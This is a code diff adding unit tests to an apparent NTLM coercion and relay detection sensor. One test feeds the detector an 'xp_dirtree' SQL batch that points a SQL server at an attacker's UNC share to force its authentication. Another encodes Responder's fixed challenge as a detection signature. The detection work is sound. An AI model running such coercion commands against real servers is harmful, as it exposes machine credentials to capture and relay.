@@ -3,6 +3,7 @@ package io.impacketsensor.detection;
 import io.impacketsensor.core.event.Carrier;
 import io.impacketsensor.core.event.EventHeader;
 import io.impacketsensor.core.event.LdapEvent;
+import io.impacketsensor.core.event.MssqlEvent;
 import io.impacketsensor.core.event.NtlmEvent;
 import io.impacketsensor.core.event.RpcArgs;
 import io.impacketsensor.core.event.RpcInterfaces;
@@ -131,5 +132,60 @@ class CoercionRelayTest {
                 new NtlmEvent.NtlmAuthenticate(v1, Carrier.SMB2, 0xE2888215, 24, 300, 2, "LAB", "alice", "WS1", true, null,
                         true, 2, "", new byte[]{4}, null, false, 0, 0));
         assertTrue(a.toString().contains("target leg smb2 " + ATK + " -> " + VICTIM + ":1433 (MSSQL)"), a.toString());
+    }
+
+    /**
+     * A coerced server whose authentication goes to a relay: the AUTHENTICATE carries the stronger relay
+     * findings (one alert per event), so the coercion is raised on the server's NEGOTIATE to the listener.
+     */
+    @Test
+    void theCoercedServersNegotiateToTheListenerRaisesTheCoercionBeforeARelayedAuthenticate() {
+        List<Analysis> a = feed(efs("\\\\" + ATK + "\\share\\x.txt", ATK, 0),
+                new NtlmEvent.NtlmNegotiate(h.h(DC, ATK, 445, 1), Carrier.SMB2, 0xE2088297, "", "", null));
+        assertEquals(1, a.stream().filter(x -> x.attackType().id().equals("coercion") && x.indicators().stream()
+                .anyMatch(s -> s.startsWith(DC + " connected to " + ATK + " and began NTLM authentication"))).count(),
+                a.toString());
+        Analysis last = a.get(a.size() - 1);
+        assertEquals(ATK, last.sourceIp());
+        assertEquals(2, last.chain().size(), last.chain().toString());
+        // A NEGOTIATE to another host, or a second one for the same call, adds nothing.
+        List<Analysis> b = feed(new NtlmEvent.NtlmNegotiate(h.h(DC, "10.8.0.99", 445, 2), Carrier.SMB2, 0xE2088297, "", "",
+                null), new NtlmEvent.NtlmNegotiate(h.h(DC, ATK, 445, 2), Carrier.SMB2, 0xE2088297, "", "", null));
+        assertFalse(b.stream().anyMatch(x -> x.indicators().stream().anyMatch(s -> s.contains("began NTLM")
+                && s.contains(" 2000 ms"))), b.toString());
+    }
+
+    /** xp_dirtree on a UNC path: the SQL server is the victim and its authentication to the host is linked. */
+    @Test
+    void aSqlBatchNamingAUncPathIsACoercionOfTheSqlServer() {
+        String sql = "10.8.0.30";
+        List<Analysis> a = feed(new MssqlEvent.MssqlBatch(h.h(ATK, sql, 1433, 0),
+                        "EXEC master..xp_dirtree '\\\\" + ATK + "\\share'", false),
+                new NtlmEvent.NtlmNegotiate(h.h(sql, ATK, 445, 1), Carrier.SMB2, 0xE2088297, "", "", null),
+                machineAuth(h.h(sql, ATK, 445, 1), "cifs/" + ATK));
+        assertEquals("coercion", a.get(0).attackType().id());
+        assertTrue(a.get(0).indicators().get(0).startsWith("SQL batch names \\\\" + ATK + "\\share (the SQL server will "
+                + "authenticate to " + ATK + ")"), a.get(0).indicators().toString());
+        assertTrue(a.stream().anyMatch(x -> x.indicators().stream().anyMatch(s -> s.contains("authenticated (NTLM over smb2")
+                && s.contains("called xp_dirtree naming"))), a.toString());
+    }
+
+    /**
+     * One server handing the same challenge to two connections is a fixed challenge (Responder's
+     * 1122334455667788): the server is the attacker, where a relay's two legs have different servers.
+     */
+    @Test
+    void aFixedChallengeFromOneServerNamesThatServerAsTheAttacker() {
+        byte[] fixed = {0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, (byte) 0x88};
+        List<Analysis> a = feed(
+                new NtlmEvent.NtlmChallenge(h.hf(21, DC, ATK, 445, 0), Carrier.SMB2, 0xE2898215, fixed, "SMB", "SMB", "R",
+                        "smb.local", "r.smb.local", 0, null, null),
+                new NtlmEvent.NtlmChallenge(h.hf(22, DC, ATK, 445, 1), Carrier.SMB2, 0xE2898215, fixed, "SMB", "SMB", "R",
+                        "smb.local", "r.smb.local", 0, null, null));
+        assertEquals(1, a.size(), a.toString());
+        assertEquals("ntlm_relay", a.get(0).attackType().id());
+        assertEquals(ATK, a.get(0).sourceIp());
+        assertTrue(a.get(0).indicators().get(0).startsWith("Same NTLM server challenge sent by " + ATK
+                + " on two connections (a fixed challenge)"), a.get(0).indicators().toString());
     }
 }
